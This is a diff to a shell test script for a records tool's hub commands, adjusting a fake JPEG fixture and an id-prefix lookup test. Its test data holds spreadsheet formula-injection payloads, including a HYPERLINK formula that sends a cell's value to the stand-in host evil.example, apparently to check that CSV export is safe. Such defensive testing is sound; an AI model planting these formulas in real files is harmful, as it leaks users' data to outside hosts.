@@ -28,7 +28,7 @@ grep -q 'hub "Kyiv hub"' info.out || fail "hub info: no name"
 ok "hub info prints the fingerprints exactly as the device's init, without the passphrase"
 
 # CSV a spreadsheet can open safely.
-head -c 2000 /dev/urandom >photo.jpg
+{ printf '\377\330\377\340'; head -c 2000 /dev/urandom; } >photo.jpg # a JPEG by its head
 cat >recs.jsonl <<'J'
 {"reporter_surname_cyr":"=HYPERLINK(\"http://evil.example/\"&A1,\"click\")","reporter_given_cyr":"+380501234567","report_date":"2026-09-01","reporter_age":41,"consent_share":"no","consent_reason":"@SUM(1+1)","children":[{"child_surname_cyr":"-2+3","child_sex":"f"},{"child_surname_cyr":"Коваленко","child_sex":"m"}]}
 J
@@ -75,7 +75,7 @@ slip=$(echo "${REF:0:4}-${REF:4}" | tr 'A-Z' 'a-z')
 $F hub show "$slip" --home hub | grep -q "\"record_id\": \"$ID\"" || fail "hub show $slip"
 $F hub show "${REF}" --home hub | grep -q "\"record_id\": \"$ID\"" || fail "hub show $REF"
 $F hub show "${ID:0:8}" --home hub | grep -q "\"record_id\": \"$ID\"" || fail "hub show ${ID:0:8}"
-expect_fail "hub show by 5 characters of an id" $F hub show "${ID:0:5}" --home hub
+expect_fail "hub show by 3 characters of an id" $F hub show "${ID:0:3}" --home hub
 typo=X; [ "${REF:7:1}" != X ] || typo=Y
 expect_fail "hub show of a reference with a typo" $F hub show "${REF:0:7}$typo" --home hub
 ok "hub show by the reference on the slip ($slip) and by the start of a record id"
